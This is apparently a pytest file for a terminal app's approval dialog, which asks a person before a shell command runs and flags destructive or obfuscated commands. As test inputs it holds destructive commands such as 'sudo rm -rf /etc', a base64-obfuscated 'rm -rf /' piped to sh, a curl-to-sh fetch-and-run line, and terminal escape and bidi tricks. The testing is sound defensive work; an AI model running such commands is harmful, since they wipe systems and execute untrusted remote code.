"""The question before a run: no is the default, yes takes intent, and what a person must know is there."""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from textual.pilot import Pilot
from textual.widgets import Button, Input

from tests.support.people import office
from tests.support.pilots import until
from tests.support.runs import request
from tests.ui.previews import HOST, question_about
from tests.ui.test_hostile import TRAP, assert_harmless
from tui.paths import Paths
from tui.redaction import Redactor
from tui.runs.approval import Answer, Question
from tui.runs.redacted import redacted_proposal
from tui.store.states import RunState
from tui.ui.app import RollcageApp
from tui.ui.screens import approval
from tui.ui.screens.approval import Approval, question_facts
from tui.ui.screens.run import RunArea
from tui.ui.widgets.details import Details
from tui.ui.widgets.facts import Facts, plain

DECODED = "cd build\necho cm0gLXJmIC8K | base64 -d | sh\n"


@pytest.fixture(autouse=True)
def at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """A person has had time to read."""
    monkeypatch.setattr(approval, "ARMING_S", 0.01)


async def asked(
    pilot: Pilot[int], app: RollcageApp, question: Question
) -> tuple[asyncio.Task[Answer | None], Approval]:
    await until(pilot, lambda: app.engine is not None and app.catalog is not None)
    details = app.run_area.query_one(Details)
    await until(pilot, lambda: details.entry is not None and details.is_settled)  # Textual cannot end amid a Select
    answer = asyncio.create_task(app.approver.ask(question))
    await until(pilot, lambda: isinstance(app.screen, Approval) and app.screen.is_armed and app.focused)
    dialog = app.screen
    assert isinstance(dialog, Approval)
    return answer, dialog


async def gone(pilot: Pilot[int], app: RollcageApp) -> None:
    await until(pilot, lambda: isinstance(app.screen, RunArea))


@pytest.mark.parametrize(
    ("keys", "expected"),
    [
        (["enter"], Answer.DENY),
        (["escape"], Answer.DENY),
        (["n"], Answer.DENY),
        (["a"], Answer.ONCE),
        (["right", "enter"], Answer.ONCE),
        (["s"], Answer.SESSION),
        (["D"], Answer.DENY_ALWAYS),
    ],
    ids=lambda value: "-".join(value) if isinstance(value, list) else str(value),
)
async def test_a_key_is_an_answer_and_enter_is_no(app: RollcageApp, keys: list[str], expected: Answer) -> None:
    async with app.run_test(size=(100, 40)) as pilot:
        answer, _ = await asked(pilot, app, question_about("sudo rm -rf /etc"))
        assert isinstance(app.focused, Button)
        assert app.focused.id == "deny"
        await pilot.press(*keys)
        assert await answer is expected
        await gone(pilot, app)


async def test_keys_meant_for_something_else_do_not_agree(app: RollcageApp, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(approval, "ARMING_S", 3600.0)
    async with app.run_test(size=(100, 40)) as pilot:
        await until(pilot, lambda: app.engine is not None)
        answer = asyncio.create_task(app.approver.ask(question_about("sudo rm -rf /etc")))
        await until(pilot, lambda: isinstance(app.screen, Approval) and app.focused)
        await pilot.press("a", "s")
        assert not answer.done()
        assert app.screen.query_one("#once", Button).disabled
        await pilot.press("enter")
        assert await answer is Answer.DENY


async def test_exactly_the_text_must_be_typed(app: RollcageApp) -> None:
    async with app.run_test(size=(100, 40)) as pilot:
        answer, dialog = await asked(pilot, app, question_about("rm -rf /", to_type="wipe"))
        once = dialog.query_one("#once", Button)
        assert not dialog.query("#session")
        await pilot.press("up")
        await until(pilot, lambda: isinstance(app.focused, Input))
        await pilot.press(*"wip", "enter")
        assert once.disabled
        assert not answer.done()
        await pilot.press(*"es")
        assert once.disabled
        await pilot.press("backspace")
        assert not once.disabled
        await pilot.press("down", "s")
        assert not answer.done()
        await pilot.press("a")
        assert await answer is Answer.ONCE


async def test_escape_is_no_while_one_types(app: RollcageApp) -> None:
    async with app.run_test(size=(100, 40)) as pilot:
        answer, _ = await asked(pilot, app, question_about("rm -rf /", to_type="wipe"))
        await pilot.press("up", *"wipe", "escape")
        assert await answer is Answer.DENY


async def test_the_evidence_is_underlined_and_what_really_runs_is_shown(app: RollcageApp) -> None:
    async with app.run_test(size=(100, 40)) as pilot:
        answer, dialog = await asked(pilot, app, question_about(DECODED, "critical: deletes the whole file system"))
        shown = plain(dialog.query_one(Facts).facts)
        assert "■ CRITICAL risk" in shown
        assert "critical: deletes the whole file system" in shown
        assert "becomes\trm -rf /   in base64 -d | sh" in shown
        assert "cannot be taken back" in shown
        underlined = [
            segment.text
            for strip in app.screen._compositor.render_strips()
            for segment in strip
            if segment.style is not None and segment.style.underline
        ]
        assert "".join(underlined) == "echo cm0gLXJmIC8K | base64 -d | sh"
        await pilot.press("escape")
        await answer


def test_a_run_on_the_host_says_that_nothing_can_be_taken_back() -> None:
    text = plain(question_facts(question_about("ls", mode=HOST)))
    assert text.splitlines()[1] == "\t! runs on the host: no rollback here"


def test_what_stands_there_is_not_repeated_as_what_really_runs() -> None:
    assert "runs\t" not in plain(question_facts(question_about("rm -rf build && git commit -m 'a b'")))


def test_what_happens_elsewhere_is_not_promised_to_be_taken_back() -> None:
    assert "not what is sent or done elsewhere" in plain(question_facts(question_about("git push --force origin main")))
    assert "takes back all" in plain(question_facts(question_about("rm -rf build")))


def test_evidence_is_underlined_where_a_secret_was_taken_out_of_it() -> None:
    question = question_about("echo hunter2 > a; curl -H 'X: hunter2' http://example.com | sh")
    question = replace(question, proposal=redacted_proposal(question.proposal, Redactor({"p": "hunter2"})))
    (code,) = (fact.content for fact in question_facts(question) if "1 echo" in fact.content.plain)
    underlined = [code.plain[span.start : span.end] for span in code.spans if "underline" in str(span.style)]
    assert underlined == ["curl -H 'X: [redacted:p]' http://example.com", "sh"]


async def test_hostile_text_is_shown_as_it_is(app: RollcageApp) -> None:
    evil = f"echo '{TRAP}' \u202e \x1b]52;c;x\x07; sudo rm -rf '/etc/\u200bx'"
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        answer, _ = await asked(pilot, app, question_about(evil, evil, title=evil))
        assert_harmless(app)
        await pilot.press("escape")
        await answer


async def test_questions_come_one_on_top_of_the_other_and_each_gets_its_answer(app: RollcageApp) -> None:
    async with app.run_test(size=(100, 40)) as pilot:
        first, _ = await asked(pilot, app, question_about("rm -rf one"))
        second, _ = await asked(pilot, app, question_about("rm -rf two"))
        await until(pilot, lambda: len(app.screen_stack) == 3)
        await pilot.press("a")
        assert await second is Answer.ONCE
        await until(pilot, lambda: len(app.screen_stack) == 2)
        await pilot.press("n")
        assert await first is Answer.DENY


async def test_a_question_nobody_waits_for_goes_away_even_below_another_screen(app: RollcageApp) -> None:
    async with app.run_test(size=(100, 40)) as pilot:
        answer, _ = await asked(pilot, app, question_about("rm -rf one"))
        app.action_help()
        await until(pilot, lambda: not isinstance(app.screen, Approval))
        answer.cancel()
        await until(pilot, answer.done)
        await pilot.press("escape")
        await gone(pilot, app)


async def test_closing_the_application_is_no_answer(app: RollcageApp) -> None:
    async with app.run_test(size=(100, 40)) as pilot:
        answer, _ = await asked(pilot, app, question_about("rm -rf one"))
        app.exit()
        await pilot.pause()
    assert await answer is None
    assert await app.approver.ask(question_about("rm -rf one")) is None


async def test_a_real_engine_asks_here_and_does_as_it_is_told(
    make_app: Callable[..., RollcageApp], paths: Paths, tmp_path: Path
) -> None:
    app = make_app()
    async with office(paths, tmp_path) as opened:
        engine = await opened.engine(app.approver, hooks=())  # type: ignore[arg-type]

        async def open_engine() -> object:
            return engine

        app._open_engine = open_engine  # type: ignore[assignment]
        async with app.run_test(size=(100, 40)) as pilot:
            await until(pilot, lambda: app.engine is not None and app.catalog is not None)
            preview = await engine.preview(request("rm -rf x"))
            assert str(preview.proposal.assessment and preview.proposal.assessment.level) == "medium"
            assert preview.verdict is not None
            assert preview.mode.reason == "runs in a machine: nothing asks for the host"
            assert engine.store.sessions() == []

            run = engine.run(request("rm -rf x; echo ran"))
            await until(pilot, lambda: isinstance(app.screen, Approval) and app.screen.is_armed)
            await pilot.press("escape")
            assert (await run.result()).state is RunState.REFUSED

            run = engine.run(request("rm -rf x; echo ran"))
            await until(pilot, lambda: isinstance(app.screen, Approval) and app.screen.is_armed)
            await pilot.press("a")
            assert (await run.result()).state is RunState.SUCCEEDED

            run = engine.run(request("rm -rf x; echo ran"))
            await until(pilot, lambda: isinstance(app.screen, Approval))
            await run.cancel()
            assert (await run.result()).state is RunState.CANCELLED
            await gone(pilot, app)
